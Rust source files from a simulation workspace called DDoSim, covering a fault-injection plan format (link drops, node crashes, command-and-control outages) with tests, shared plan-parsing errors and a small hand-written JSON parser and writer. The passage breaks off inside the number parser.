    /// Stable wire name of the kind (the `"kind"` field in plan files).
    pub fn name(&self) -> &'static str {
        match self {
            FaultKind::LinkDown { .. } => "link_down",
            FaultKind::LinkUp { .. } => "link_up",
            FaultKind::LinkLoss { .. } => "link_loss",
            FaultKind::NodeCrash { .. } => "node_crash",
            FaultKind::NodeRestore { .. } => "node_restore",
            FaultKind::CncOutage { .. } => "cnc_outage",
            FaultKind::ContainerKill { .. } => "container_kill",
        }
    }

    /// The targeted node name, if the kind targets one.
    pub fn node(&self) -> Option<&str> {
        match self {
            FaultKind::LinkDown { node }
            | FaultKind::LinkUp { node }
            | FaultKind::LinkLoss { node, .. }
            | FaultKind::NodeCrash { node }
            | FaultKind::NodeRestore { node }
            | FaultKind::ContainerKill { node } => Some(node),
            FaultKind::CncOutage { .. } => None,
        }
    }
}

/// One scheduled fault.
#[derive(Debug, Clone, PartialEq)]
pub struct FaultEvent {
    /// When the fault fires, on the simulation clock.
    pub at: Duration,
    /// What to inject.
    pub kind: FaultKind,
}

impl FaultEvent {
    /// Deterministic one-line description (flight-recorder detail).
    pub fn describe(&self) -> String {
        match &self.kind {
            FaultKind::LinkDown { node } => format!("link_down {node}"),
            FaultKind::LinkUp { node } => format!("link_up {node}"),
            FaultKind::LinkLoss { node, probability } => {
                format!("link_loss {node} p={probability}")
            }
            FaultKind::NodeCrash { node } => format!("node_crash {node}"),
            FaultKind::NodeRestore { node } => format!("node_restore {node}"),
            FaultKind::CncOutage { duration } => match duration {
                Some(d) => format!("cnc_outage for {}s", d.as_secs_f64()),
                None => "cnc_outage permanent".to_owned(),
            },
            FaultKind::ContainerKill { node } => format!("container_kill {node}"),
        }
    }
}

impl ToJson for FaultEvent {
    fn to_json(&self) -> Json {
        // The writer emits exact nanoseconds so a plan round-trips without
        // float loss; hand-written plans may use "at_secs" instead.
        let mut fields = vec![
            ("at_nanos", Json::U64(self.at.as_nanos() as u64)),
            ("kind", Json::Str(self.kind.name().into())),
        ];
        if let Some(node) = self.kind.node() {
            fields.push(("node", Json::Str(node.into())));
        }
        match &self.kind {
            FaultKind::LinkLoss { probability, .. } => {
                fields.push(("probability", Json::F64(*probability)));
            }
            FaultKind::CncOutage { duration: Some(d) } => {
                fields.push(("duration_secs", Json::F64(d.as_secs_f64())));
            }
            _ => {}
        }
        Json::obj(fields)
    }
}

impl FromJson for FaultEvent {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        let at = match (value.get("at_nanos"), value.get("at_secs")) {
            (Some(n), None) => Duration::from_nanos(
                n.as_u64()
                    .ok_or_else(|| JsonError::conversion("fault 'at_nanos' must be a u64"))?,
            ),
            (None, Some(s)) => {
                let secs = s
                    .as_f64()
                    .ok_or_else(|| JsonError::conversion("fault 'at_secs' must be a number"))?;
                if !secs.is_finite() || secs < 0.0 {
                    return Err(JsonError::conversion("fault 'at_secs' must be finite and >= 0"));
                }
                Duration::from_secs_f64(secs)
            }
            (Some(_), Some(_)) => {
                return Err(JsonError::conversion("fault has both 'at_nanos' and 'at_secs'"))
            }
            (None, None) => {
                return Err(JsonError::conversion("fault missing 'at_nanos' or 'at_secs'"))
            }
        };
        let kind_name = value
            .get("kind")
            .and_then(Json::as_str)
            .ok_or_else(|| JsonError::conversion("fault missing 'kind'"))?;
        let node = || -> Result<String, JsonError> {
            value
                .get("node")
                .and_then(Json::as_str)
                .map(str::to_owned)
                .ok_or_else(|| {
                    JsonError::conversion("node-targeted fault missing 'node'")
                })
        };
        let kind = match kind_name {
            "link_down" => FaultKind::LinkDown { node: node()? },
            "link_up" => FaultKind::LinkUp { node: node()? },
            "link_loss" => FaultKind::LinkLoss {
                node: node()?,
                probability: value
                    .get("probability")
                    .and_then(Json::as_f64)
                    .ok_or_else(|| JsonError::conversion("link_loss missing 'probability'"))?,
            },
            "node_crash" => FaultKind::NodeCrash { node: node()? },
            "node_restore" => FaultKind::NodeRestore { node: node()? },
            "cnc_outage" => {
                let duration = match value.get("duration_secs") {
                    None | Some(Json::Null) => None,
                    Some(v) => {
                        let secs = v.as_f64().ok_or_else(|| {
                            JsonError::conversion("cnc_outage 'duration_secs' must be a number")
                        })?;
                        if !secs.is_finite() || secs < 0.0 {
                            return Err(JsonError::conversion(
                                "cnc_outage 'duration_secs' must be finite and >= 0",
                            ));
                        }
                        Some(Duration::from_secs_f64(secs))
                    }
                };
                FaultKind::CncOutage { duration }
            }
            "container_kill" => FaultKind::ContainerKill { node: node()? },
            other => {
                return Err(JsonError::conversion(format!("unknown fault kind '{other}'")))
            }
        };
        Ok(FaultEvent { at, kind })
    }
}

/// A complete, ordered fault plan.
///
/// `seed` salts the fault RNG (the stream behind probabilistic faults such
/// as [`FaultKind::LinkLoss`]), so two plans differing only in seed sample
/// different loss patterns under the same simulation seed. Faults fire in
/// plan order when several share an instant.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct FaultPlan {
    /// Salt for the fault RNG (xor-folded with the simulation seed).
    pub seed: u64,
    /// The scheduled faults.
    pub faults: Vec<FaultEvent>,
}

impl FaultPlan {
    /// Whether the plan schedules nothing (the guaranteed-no-op case).
    pub fn is_empty(&self) -> bool {
        self.faults.is_empty()
    }

    /// Validates field ranges (probabilities, target names).
    ///
    /// # Errors
    ///
    /// Returns a message naming the first offending fault.
    pub fn validate(&self) -> Result<(), String> {
        for (i, f) in self.faults.iter().enumerate() {
            if let Some(node) = f.kind.node() {
                if node.is_empty() {
                    return Err(format!("fault #{i} ({}): empty node name", f.kind.name()));
                }
            }
            if let FaultKind::LinkLoss { probability, .. } = f.kind {
                if !probability.is_finite() || !(0.0..=1.0).contains(&probability) {
                    return Err(format!(
                        "fault #{i} (link_loss): probability {probability} outside [0, 1]"
                    ));
                }
            }
        }
        Ok(())
    }

    /// Field names a fault object may carry (see [`FaultPlan::parse_plan`]).
    pub const FAULT_FIELDS: &'static [&'static str] =
        &["at_nanos", "at_secs", "kind", "node", "probability", "duration_secs"];

    /// Parses a plan from its djson text through the shared plan-document
    /// pipeline: syntax, schema tag, unknown-field rejection at every
    /// object level, then field-range validation.
    ///
    /// # Errors
    ///
    /// A typed [`PlanError`] naming the first problem.
    pub fn parse_plan(text: &str) -> Result<Self, PlanError> {
        const DOC: &str = "fault plan";
        let json = Json::parse(text).map_err(|e| PlanError::syntax(DOC, e))?;
        plan::check_schema(&json, DOC, FAULT_PLAN_SCHEMA)?;
        plan::reject_unknown_fields(&json, DOC, "fault plan", &["schema", "seed", "faults"])?;
        if let Some(faults) = json.get("faults").and_then(Json::as_array) {
            for (i, f) in faults.iter().enumerate() {
                plan::reject_unknown_fields(f, DOC, &format!("fault #{i}"), Self::FAULT_FIELDS)?;
            }
        }
        let plan = FaultPlan::from_json(&json).map_err(|e| PlanError::syntax(DOC, e))?;
        plan.validate().map_err(|m| PlanError::invalid(DOC, m))?;
        Ok(plan)
    }

    /// Parses a plan, stringifying any [`PlanError`] (the historical
    /// `Result<_, String>` surface most call sites use).
    ///
    /// # Errors
    ///
    /// Returns a message describing the first syntax, schema, or range
    /// problem.
    pub fn parse_str(text: &str) -> Result<Self, String> {
        Self::parse_plan(text).map_err(String::from)
    }

    /// Serializes the plan as a pretty-printed, schema-tagged document.
    pub fn to_doc(&self) -> String {
        self.to_json().to_string_pretty()
    }
}

impl ToJson for FaultPlan {
    fn to_json(&self) -> Json {
        Json::obj([
            ("schema", Json::Str(FAULT_PLAN_SCHEMA.into())),
            ("seed", Json::U64(self.seed)),
            (
                "faults",
                Json::Arr(self.faults.iter().map(ToJson::to_json).collect()),
            ),
        ])
    }
}

impl FromJson for FaultPlan {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        let schema = value
            .get("schema")
            .and_then(Json::as_str)
            .ok_or_else(|| JsonError::conversion("fault plan missing 'schema'"))?;
        if schema != FAULT_PLAN_SCHEMA {
            return Err(JsonError::conversion(format!(
                "unsupported fault plan schema '{schema}' (expected '{FAULT_PLAN_SCHEMA}')"
            )));
        }
        let seed = match value.get("seed") {
            None | Some(Json::Null) => 0,
            Some(v) => v
                .as_u64()
                .ok_or_else(|| JsonError::conversion("fault plan 'seed' must be a u64"))?,
        };
        let faults = value
            .get("faults")
            .and_then(Json::as_array)
            .ok_or_else(|| JsonError::conversion("fault plan missing 'faults' array"))?
            .iter()
            .map(FaultEvent::from_json)
            .collect::<Result<Vec<_>, _>>()?;
        Ok(FaultPlan { seed, faults })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_plan() -> FaultPlan {
        FaultPlan {
            seed: 9,
            faults: vec![
                FaultEvent {
                    at: Duration::from_secs(40),
                    kind: FaultKind::LinkDown { node: "dev-0".into() },
                },
                FaultEvent {
                    at: Duration::from_millis(55_500),
                    kind: FaultKind::LinkUp { node: "dev-0".into() },
                },
                FaultEvent {
                    at: Duration::from_secs(20),
                    kind: FaultKind::LinkLoss { node: "dev-1".into(), probability: 0.25 },
                },
                FaultEvent {
                    at: Duration::from_secs(30),
                    kind: FaultKind::NodeCrash { node: "dev-2".into() },
                },
                FaultEvent {
                    at: Duration::from_secs(50),
                    kind: FaultKind::NodeRestore { node: "dev-2".into() },
                },
                FaultEvent {
                    at: Duration::from_secs(25),
                    kind: FaultKind::CncOutage { duration: Some(Duration::from_secs(15)) },
                },
                FaultEvent {
                    at: Duration::from_secs(60),
                    kind: FaultKind::ContainerKill { node: "dev-3".into() },
                },
            ],
        }
    }

    #[test]
    fn plan_round_trips_through_json() {
        let plan = sample_plan();
        let doc = plan.to_doc();
        let back = FaultPlan::parse_str(&doc).expect("round trip");
        assert_eq!(back, plan);
    }

    #[test]
    fn serialization_is_deterministic() {
        let plan = sample_plan();
        assert_eq!(plan.to_doc(), plan.to_doc());
        assert_eq!(
            plan.to_json().to_string_compact(),
            plan.to_json().to_string_compact()
        );
    }

    #[test]
    fn hand_written_at_secs_is_accepted() {
        let doc = format!(
            r#"{{"schema":"{FAULT_PLAN_SCHEMA}","faults":[
                {{"at_secs": 12.5, "kind": "link_down", "node": "dev-4"}},
                {{"at_secs": 20, "kind": "cnc_outage", "duration_secs": 5}}
            ]}}"#
        );
        let plan = FaultPlan::parse_str(&doc).expect("parses");
        assert_eq!(plan.seed, 0, "seed defaults to 0");
        assert_eq!(plan.faults[0].at, Duration::from_millis(12_500));
        assert_eq!(
            plan.faults[1].kind,
            FaultKind::CncOutage { duration: Some(Duration::from_secs(5)) }
        );
    }

    #[test]
    fn schema_and_range_errors_are_reported() {
        assert!(FaultPlan::parse_str("{").is_err(), "syntax error");
        assert!(
            FaultPlan::parse_str(r#"{"schema":"other/1","faults":[]}"#)
                .expect_err("schema")
                .contains("unsupported fault plan schema"),
        );
        let bad_p = format!(
            r#"{{"schema":"{FAULT_PLAN_SCHEMA}","faults":[
                {{"at_secs": 1, "kind": "link_loss", "node": "dev-0", "probability": 1.5}}
            ]}}"#
        );
        assert!(FaultPlan::parse_str(&bad_p).expect_err("range").contains("outside [0, 1]"));
        let unknown = format!(
            r#"{{"schema":"{FAULT_PLAN_SCHEMA}","faults":[{{"at_secs":1,"kind":"meteor"}}]}}"#
        );
        assert!(FaultPlan::parse_str(&unknown).expect_err("kind").contains("unknown fault kind"));
        let no_node = format!(
            r#"{{"schema":"{FAULT_PLAN_SCHEMA}","faults":[{{"at_secs":1,"kind":"link_down"}}]}}"#
        );
        assert!(FaultPlan::parse_str(&no_node).is_err(), "missing node");
    }

    #[test]
    fn unknown_fields_are_rejected() {
        let top = format!(r#"{{"schema":"{FAULT_PLAN_SCHEMA}","faults":[],"extra":1}}"#);
        assert!(FaultPlan::parse_str(&top)
            .expect_err("top-level")
            .contains("unknown field 'extra' in fault plan"));
        let nested = format!(
            r#"{{"schema":"{FAULT_PLAN_SCHEMA}","faults":[
                {{"at_secs":1,"kind":"link_down","node":"dev-0","oops":true}}
            ]}}"#
        );
        assert!(FaultPlan::parse_str(&nested)
            .expect_err("per-fault")
            .contains("unknown field 'oops' in fault #0"));
    }

    #[test]
    fn empty_plan_is_empty() {
        assert!(FaultPlan::default().is_empty());
        assert!(!sample_plan().is_empty());
        FaultPlan::default().validate().expect("empty plan is valid");
    }

    #[test]
    fn describe_is_stable() {
        let plan = sample_plan();
        assert_eq!(plan.faults[0].describe(), "link_down dev-0");
        assert_eq!(plan.faults[2].describe(), "link_loss dev-1 p=0.25");
        assert_eq!(plan.faults[5].describe(), "cnc_outage for 15s");
        assert_eq!(
            FaultEvent { at: Duration::ZERO, kind: FaultKind::CncOutage { duration: None } }
                .describe(),
            "cnc_outage permanent"
        );
    }
}
