//! Shared plumbing for schema-tagged plan documents.
//!
//! Every declarative plan in the workspace — fault plans
//! (`ddosim.faults.plan/1`), checkpoints (`ddosim.checkpoint/1`), suffix
//! trees (`ddosim.suffix/1`), and scenarios (`ddosim.scenario/1`) — is a
//! djson document with a `schema` tag. This module gives their parsers one
//! error type and one pair of validation helpers so rejection behavior
//! (bad syntax, wrong schema version, unknown fields, unresolvable node
//! targets) is uniform across all of them.

use djson::Json;
use std::fmt;

/// A plan-document rejection. `doc` names the document kind in messages
/// ("fault plan", "checkpoint", "suffix plan", "scenario").
#[derive(Debug, Clone, PartialEq)]
pub enum PlanError {
    /// The text is not valid JSON.
    Syntax {
        /// Document kind for the message.
        doc: &'static str,
        /// The underlying parse error.
        message: String,
    },
    /// The `schema` tag is missing or names an unsupported version.
    Schema {
        /// Document kind for the message.
        doc: &'static str,
        /// The tag found, or `None` if absent.
        found: Option<String>,
        /// The tag this parser accepts.
        expected: &'static str,
    },
    /// An object carries a field the schema does not define (usually a
    /// typo; silently ignoring it would make the plan lie).
    UnknownField {
        /// Document kind for the message.
        doc: &'static str,
        /// Which object the field appeared in ("scenario.world", …).
        context: String,
        /// The offending field name.
        field: String,
    },
    /// The plan references a node name the assembled world doesn't have.
    BadTarget {
        /// Document kind for the message.
        doc: &'static str,
        /// The unresolvable node name.
        target: String,
    },
    /// A field exists but fails shape or range validation.
    Invalid {
        /// Document kind for the message.
        doc: &'static str,
        /// What is wrong.
        message: String,
    },
}

impl PlanError {
    /// Wraps a JSON syntax error.
    pub fn syntax(doc: &'static str, err: impl fmt::Display) -> Self {
        PlanError::Syntax { doc, message: err.to_string() }
    }

    /// Builds a shape/range validation error.
    pub fn invalid(doc: &'static str, message: impl Into<String>) -> Self {
        PlanError::Invalid { doc, message: message.into() }
    }

    /// Builds an unresolvable-node-target error.
    pub fn bad_target(doc: &'static str, target: impl Into<String>) -> Self {
        PlanError::BadTarget { doc, target: target.into() }
    }
}

impl fmt::Display for PlanError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PlanError::Syntax { doc, message } => write!(f, "{doc}: {message}"),
            PlanError::Schema { doc, found: Some(found), expected } => {
                write!(f, "unsupported {doc} schema '{found}' (expected '{expected}')")
            }
            PlanError::Schema { doc, found: None, expected } => {
                write!(f, "{doc} missing 'schema' (expected '{expected}')")
            }
            PlanError::UnknownField { doc, context, field } => {
                write!(f, "{doc}: unknown field '{field}' in {context}")
            }
            PlanError::BadTarget { doc, target } => {
                write!(f, "{doc} targets unknown node '{target}'")
            }
            PlanError::Invalid { doc, message } => write!(f, "{doc}: {message}"),
        }
    }
}

impl std::error::Error for PlanError {}

impl From<PlanError> for String {
    fn from(e: PlanError) -> String {
        e.to_string()
    }
}

/// Checks the document's `schema` tag against the version this parser
/// accepts.
///
/// # Errors
///
/// [`PlanError::Schema`] when the tag is missing, non-string, or names a
/// different version.
pub fn check_schema(value: &Json, doc: &'static str, expected: &'static str) -> Result<(), PlanError> {
    match value.get("schema").and_then(Json::as_str) {
        Some(found) if found == expected => Ok(()),
        Some(found) => Err(PlanError::Schema { doc, found: Some(found.to_owned()), expected }),
        None => Err(PlanError::Schema { doc, found: None, expected }),
    }
}

/// Rejects fields outside `allowed` on an object (and rejects non-object
/// values outright). `context` names the object in the error ("scenario",
/// "scenario.world", "fault #3", …).
///
/// # Errors
///
/// [`PlanError::UnknownField`] naming the first undefined field, or
/// [`PlanError::Invalid`] when `value` is not an object.
pub fn reject_unknown_fields(
    value: &Json,
    doc: &'static str,
    context: &str,
    allowed: &[&str],
) -> Result<(), PlanError> {
    let Json::Obj(members) = value else {
        return Err(PlanError::invalid(doc, format!("{context} must be an object")));
    };
    for (key, _) in members {
        if !allowed.contains(&key.as_str()) {
            return Err(PlanError::UnknownField {
                doc,
                context: context.to_owned(),
                field: key.clone(),
            });
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_formats_each_variant() {
        let cases: Vec<(PlanError, &str)> = vec![
            (
                PlanError::syntax("fault plan", "unexpected end of input"),
                "fault plan: unexpected end of input",
            ),
            (
                PlanError::Schema {
                    doc: "fault plan",
                    found: Some("other/9".into()),
                    expected: "ddosim.faults.plan/1",
                },
                "unsupported fault plan schema 'other/9' (expected 'ddosim.faults.plan/1')",
            ),
            (
                PlanError::Schema { doc: "scenario", found: None, expected: "ddosim.scenario/1" },
                "scenario missing 'schema' (expected 'ddosim.scenario/1')",
            ),
            (
                PlanError::UnknownField {
                    doc: "scenario",
                    context: "scenario.world".into(),
                    field: "devz".into(),
                },
                "scenario: unknown field 'devz' in scenario.world",
            ),
            (
                PlanError::bad_target("fault plan", "dev-99"),
                "fault plan targets unknown node 'dev-99'",
            ),
            (
                PlanError::invalid("suffix plan", "fork_at_nanos must be a u64"),
                "suffix plan: fork_at_nanos must be a u64",
            ),
        ];
        for (err, want) in cases {
            assert_eq!(err.to_string(), want);
        }
    }

    #[test]
    fn check_schema_table() {
        let doc = |s: &str| Json::parse(s).unwrap();
        assert!(check_schema(&doc(r#"{"schema":"x/1"}"#), "plan", "x/1").is_ok());
        let cases = [
            (r#"{"schema":"x/2"}"#, "unsupported plan schema 'x/2'"),
            (r#"{"schema": 7}"#, "plan missing 'schema'"),
            (r#"{}"#, "plan missing 'schema'"),
        ];
        for (text, fragment) in cases {
            let err = check_schema(&doc(text), "plan", "x/1").expect_err(text);
            assert!(err.to_string().contains(fragment), "{text}: {err}");
        }
    }

    #[test]
    fn unknown_field_table() {
        let doc = |s: &str| Json::parse(s).unwrap();
        let allowed = ["a", "b"];
        assert!(reject_unknown_fields(&doc(r#"{"a":1,"b":2}"#), "plan", "top", &allowed).is_ok());
        assert!(reject_unknown_fields(&doc(r#"{}"#), "plan", "top", &allowed).is_ok());
        let err = reject_unknown_fields(&doc(r#"{"a":1,"c":3}"#), "plan", "top", &allowed)
            .expect_err("unknown field");
        assert_eq!(err.to_string(), "plan: unknown field 'c' in top");
        let err =
            reject_unknown_fields(&doc("[1,2]"), "plan", "top", &allowed).expect_err("non-object");
        assert!(err.to_string().contains("top must be an object"));
    }
}
