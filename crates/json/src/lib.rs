//! # djson — dependency-free JSON for DDoSim
//!
//! The build environment for this repository cannot reach crates.io, so the
//! workspace carries its own small JSON layer instead of `serde`/`serde_json`:
//! a [`Json`] value type with an order-preserving object representation, a
//! deterministic writer (compact and pretty), a strict parser, and the
//! [`ToJson`]/[`FromJson`] conversion traits result types implement by hand.
//!
//! Object members keep their insertion order, and the writer is fully
//! deterministic: the same value always serializes to the same bytes. The
//! cross-run determinism regression tests rely on that property.

#![warn(missing_docs)]

use std::fmt;

/// A JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Json {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// An unsigned integer (kept exact, unlike an f64 round-trip).
    U64(u64),
    /// A signed integer.
    I64(i64),
    /// A floating-point number.
    F64(f64),
    /// A string.
    Str(String),
    /// An array.
    Arr(Vec<Json>),
    /// An object; members keep insertion order.
    Obj(Vec<(String, Json)>),
}

impl Json {
    /// Builds an object from key/value pairs.
    pub fn obj(members: impl IntoIterator<Item = (&'static str, Json)>) -> Json {
        Json::Obj(members.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
    }

    /// Looks up an object member by key.
    pub fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(members) => members.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The value as a `u64`, if it is a non-negative integer.
    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Json::U64(v) => Some(*v),
            Json::I64(v) => u64::try_from(*v).ok(),
            _ => None,
        }
    }

    /// The value as an `f64`, if numeric.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Json::F64(v) => Some(*v),
            Json::U64(v) => Some(*v as f64),
            Json::I64(v) => Some(*v as f64),
            _ => None,
        }
    }

    /// The value as a `bool`.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Json::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// The value as a string slice.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The value as an array slice.
    pub fn as_array(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(items) => Some(items),
            _ => None,
        }
    }

    /// Whether the value is `null`.
    pub fn is_null(&self) -> bool {
        matches!(self, Json::Null)
    }

    /// Compact serialization (no whitespace).
    pub fn to_string_compact(&self) -> String {
        let mut out = String::new();
        write_compact(self, &mut out);
        out
    }

    /// Pretty serialization with two-space indentation.
    pub fn to_string_pretty(&self) -> String {
        let mut out = String::new();
        write_pretty(self, 0, &mut out);
        out
    }

    /// Parses a JSON document.
    ///
    /// # Errors
    ///
    /// Returns [`JsonError`] describing the first syntax problem found.
    pub fn parse(input: &str) -> Result<Json, JsonError> {
        let mut p = Parser { bytes: input.as_bytes(), pos: 0 };
        p.skip_ws();
        let v = p.value()?;
        p.skip_ws();
        if p.pos != p.bytes.len() {
            return Err(p.err("trailing characters"));
        }
        Ok(v)
    }
}

impl fmt::Display for Json {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_string_compact())
    }
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

fn write_f64(v: f64, out: &mut String) {
    if v.is_finite() {
        // Shortest round-trip formatting; integral floats keep a ".0" so
        // the parser can preserve the float/int distinction.
        if v == v.trunc() && v.abs() < 1e15 {
            out.push_str(&format!("{v:.1}"));
        } else {
            out.push_str(&format!("{v}"));
        }
    } else {
        // JSON has no NaN/inf; encode as null like serde_json does.
        out.push_str("null");
    }
}

fn write_compact(v: &Json, out: &mut String) {
    match v {
        Json::Null => out.push_str("null"),
        Json::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Json::U64(n) => out.push_str(&n.to_string()),
        Json::I64(n) => out.push_str(&n.to_string()),
        Json::F64(n) => write_f64(*n, out),
        Json::Str(s) => write_escaped(s, out),
        Json::Arr(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                write_compact(item, out);
            }
            out.push(']');
        }
        Json::Obj(members) => {
            out.push('{');
            for (i, (k, val)) in members.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                write_escaped(k, out);
                out.push(':');
                write_compact(val, out);
            }
            out.push('}');
        }
    }
}

fn write_pretty(v: &Json, indent: usize, out: &mut String) {
    let pad = |n: usize, out: &mut String| {
        for _ in 0..n {
            out.push_str("  ");
        }
    };
    match v {
        Json::Arr(items) if !items.is_empty() => {
            out.push_str("[\n");
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push_str(",\n");
                }
                pad(indent + 1, out);
                write_pretty(item, indent + 1, out);
            }
            out.push('\n');
            pad(indent, out);
            out.push(']');
        }
        Json::Obj(members) if !members.is_empty() => {
            out.push_str("{\n");
            for (i, (k, val)) in members.iter().enumerate() {
                if i > 0 {
                    out.push_str(",\n");
                }
                pad(indent + 1, out);
                write_escaped(k, out);
                out.push_str(": ");
                write_pretty(val, indent + 1, out);
            }
            out.push('\n');
            pad(indent, out);
            out.push('}');
        }
        other => write_compact(other, out),
    }
}

/// A JSON syntax or conversion error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JsonError {
    /// Human-readable description.
    pub message: String,
    /// Byte offset at which the problem was detected (0 for conversion
    /// errors).
    pub offset: usize,
}

impl fmt::Display for JsonError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "json error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for JsonError {}

impl JsonError {
    /// A conversion (not syntax) error.
    pub fn conversion(message: impl Into<String>) -> Self {
        JsonError { message: message.into(), offset: 0 }
    }
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn err(&self, message: &str) -> JsonError {
        JsonError { message: message.to_string(), offset: self.pos }
    }

    fn skip_ws(&mut self) {
        while let Some(b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<(), JsonError> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.err(&format!("expected '{}'", b as char)))
        }
    }

    fn literal(&mut self, word: &str, value: Json) -> Result<Json, JsonError> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(self.err(&format!("expected '{word}'")))
        }
    }

    fn value(&mut self) -> Result<Json, JsonError> {
        match self.peek() {
            Some(b'n') => self.literal("null", Json::Null),
            Some(b't') => self.literal("true", Json::Bool(true)),
            Some(b'f') => self.literal("false", Json::Bool(false)),
            Some(b'"') => Ok(Json::Str(self.string()?)),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            _ => Err(self.err("expected a value")),
        }
    }

    fn array(&mut self) -> Result<Json, JsonError> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }

    fn object(&mut self) -> Result<Json, JsonError> {
        self.expect(b'{')?;
        let mut members = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Obj(members));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            members.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Obj(members));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }

    fn string(&mut self) -> Result<String, JsonError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated string")),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'u') => {
                            let hex = self
                                .bytes
                                .get(self.pos + 1..self.pos + 5)
                                .ok_or_else(|| self.err("truncated \\u escape"))?;
                            let hex = std::str::from_utf8(hex)
                                .map_err(|_| self.err("bad \\u escape"))?;
                            let code = u32::from_str_radix(hex, 16)
                                .map_err(|_| self.err("bad \\u escape"))?;
                            out.push(
                                char::from_u32(code)
                                    .ok_or_else(|| self.err("bad \\u code point"))?,
                            );
                            self.pos += 4;
                        }
                        _ => return Err(self.err("bad escape")),
                    }
                    self.pos += 1;
                }
                Some(_) => {
                    // Consume a maximal run of unescaped bytes in one go;
                    // the run ends at a quote or backslash, both ASCII, so
                    // the chunk boundaries are char boundaries and each
                    // input byte is UTF-8-validated exactly once.
                    let start = self.pos;
                    while let Some(&b) = self.bytes.get(self.pos) {
                        if b == b'"' || b == b'\\' {
                            break;
                        }
                        self.pos += 1;
                    }
                    let chunk = std::str::from_utf8(&self.bytes[start..self.pos])
                        .map_err(|_| self.err("invalid utf-8"))?;
                    out.push_str(chunk);
                }
            }
        }
    }

    fn number(&mut self) -> Result<Json, JsonError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        let mut is_float = false;
        if self.peek() == Some(b'.') {
            is_float = true;
            self.pos += 1;
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        if matches!(self.peek(), Some(b'e' | b'E')) {
            is_float = true;
            self.pos += 1;
            if matches!(self.peek(), Some(b'+' | b'-')) {
                self.pos += 1;
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos])
            .map_err(|_| self.err("invalid number"))?;
        if !is_float {
            if let Ok(u) = text.parse::<u64>() {
                return Ok(Json::U64(u));
            }
            if let Ok(i) = text.parse::<i64>() {
                return Ok(Json::I64(i));
            }
        }
